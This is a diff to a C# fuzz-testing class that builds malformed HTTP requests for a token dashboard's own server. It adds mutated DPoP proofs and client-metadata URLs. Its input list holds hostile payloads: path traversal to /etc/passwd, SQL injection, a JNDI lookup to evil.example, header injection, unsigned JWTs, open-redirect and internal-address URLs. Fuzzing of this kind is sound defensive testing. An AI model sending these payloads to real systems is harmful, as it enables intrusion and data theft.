@@ -1,5 +1,6 @@
 using System.Globalization;
 using System.Text;
+using System.Text.Json.Nodes;
 
 namespace TokenDashboard.Web.Tests.Fuzzing;
 
@@ -17,10 +18,14 @@ internal sealed record HostileRequest(string Path, string Text, bool IsWhole);
 /// <param name="host">What the server is called.</param>
 /// <param name="cookies">Of somebody signed in. No form is ever sent with them that the server gave out.</param>
 /// <param name="token">A refresh token that lives. It is only ever sent with something changed.</param>
-internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, string cookies, string token)
+/// <param name="prove">Proves with a key that a request of that method for that path is sent, changed as it is told before it is signed.</param>
+internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, string cookies, string token, Func<string, string, Action<JsonObject, JsonObject>, string> prove)
 {
     /// <summary>What no answer of the protocol may repeat.</summary>
     public const string Marker = "c4n4ry";
+
+    /// <summary>Where an app's document is.</summary>
+    public const string Document = "https://agents.example/client.json";
 
     /// <summary>A header that no answer may have.</summary>
     public const string Injected = "X-Injected";
@@ -43,6 +48,7 @@ internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, 
         Marker, Marker + "<\"'>", "<script>" + Marker + "</script>", $"{Marker}\r\n{Injected}: 1", $"{Marker}%0d%0a{Injected}:%201", "é" + Marker, Marker + "\0", Marker + "%00",
         "../../../../etc/passwd", "..%2f..%2f", "' OR 1=1 --", "\"; DROP TABLE sessions; --", "{{7*7}}", "${jndi:ldap://evil.example}", "{0}{1}{999}", "%s%n%x", "%ff%fe", "%ED%A0%80",
         "\u00FF\u00FE", "\u00E2\u0080\u00AE", "\u00F0\u009F\u0098\u0080", "//evil.example", "https://evil.example/" + Marker, "/\\evil.example", "javascript:alert(1)",
+        Document, "https://agents.example/" + Marker, "https://agents.example/a/../b", "https://127.0.0.1/client.json", "https://agents.example:22/a",
         "00000000-0000-0000-0000-000000000000", "td1_", "eyJhbGciOiJub25lIn0.e30.", "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.AAAA", "eyJ0eXAiOiJkcG9wK2p3dCIsImFsZyI6IkVTMjU2IiwiandrIjp7Imt0eSI6IkVDIiwiY3J2IjoiUC0yNTYiLCJ4IjoiIiwieSI6IiJ9fQ.e30.AAAA", "AAAA-AAAA", "2026-99-99", "0001-01-01", "9999-12-31T23:59:59Z",
         new('A', 200), new('%', 300), new('9', 400), string.Join(' ', Enumerable.Repeat("profile", 450)),
     ];
@@ -59,6 +65,9 @@ internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, 
         "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-8", "application/x-www-form-urlencoded; charset=utf-16", "application/json",
         "multipart/form-data; boundary=b", "multipart/form-data", "text/plain", "application/xml", "application/jwt", Marker, "", "application/csp-report",
     ];
+
+    // What a proof says (RFC 9449 §4.2), and what it may not.
+    private static readonly string[] Claims = ["typ", "alg", "jwk", "kid", "crit", "b64", "x5c", "jku", "jti", "htm", "htu", "iat", "exp", "nbf", "nonce", "ath", "kty", "crv", "x", "y", "d", "k", "n", "e", Marker];
 
     private static readonly string[] Sizes = ["80000000", "FFFFFFFFFFFFFFFF", "-1", "zz", "0", "5;ext=" + Marker, "00000000000000000005"];
 
@@ -78,6 +87,8 @@ internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, 
             text.Append("Cookie: ").Append(random.Next(3) == 0 ? Change(cookies, random) : cookies).Append("\r\nUser-Agent: Mozilla/5.0\r\n");
         else
             AddHeaders(text, random);
+        if (isProtocol && random.Next(3) == 0)
+            text.Append("DPoP: ").Append(Proof(method, path, random)).Append("\r\n");
         var isWhole = AddBody(text, random, isProtocol);
         if (random.Next(6) != 0)
             return new(path, text.ToString(), isWhole);
@@ -142,7 +153,7 @@ internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, 
     {
         var fields = Enumerable.Range(0, random.Next(random.Next(20) == 0 ? 200 : 7)).Select(_ => (Name: Of(Names, random), Value: Value(random))).ToList();
         if (random.Next(2) == 0)
-            fields.Add(("client_id", "companion"));
+            fields.Add(("client_id", random.Next(6) == 0 ? Document : "companion"));
         if (random.Next(2) == 0)
             fields.Add(("grant_type", random.Next(2) == 0 ? "refresh_token" : "urn:ietf:params:oauth:grant-type:device_code"));
         if (random.Next(4) == 0)
@@ -156,6 +167,35 @@ internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, 
         // Now and then what should be escaped is not.
         return string.Join('&', fields.Select(f => random.Next(10) == 0 ? $"{f.Name}={f.Value}" : $"{Uri.EscapeDataString(f.Name)}={Uri.EscapeDataString(f.Value)}")).Replace("\r\n", "%0D%0A", StringComparison.Ordinal);
     }
+
+    // As it should be, or something in it is not, or something of it was changed since.
+    private string Proof(string method, string path, Random random)
+    {
+        var proof = prove(method, path.Split('?')[0], (header, body) =>
+        {
+            for (var times = random.Next(4); times > 0; times--)
+            {
+                var part = random.Next(3) switch { 0 => header, 1 => body, _ => header["jwk"] as JsonObject ?? header };
+                var claim = Of(Claims, random);
+                if (random.Next(3) == 0)
+                    part.Remove(claim);
+                else
+                    part[claim] = Claim(random);
+            }
+        });
+        return random.Next(4) == 0 ? Change(proof, random).Replace('\r', ' ').Replace('\n', ' ') : proof;
+    }
+
+    private static JsonNode? Claim(Random random) => random.Next(8) switch
+    {
+        0 => null,
+        1 => random.NextInt64(long.MinValue, long.MaxValue),
+        2 => -1.5e300,
+        3 => new JsonArray(Of(Values, random), true),
+        4 => new JsonObject { [Marker] = new JsonObject { ["kty"] = "EC" } },
+        5 => false,
+        _ => Of(Values, random),
+    };
 
     private string Value(Random random) => random.Next(30) switch
     {
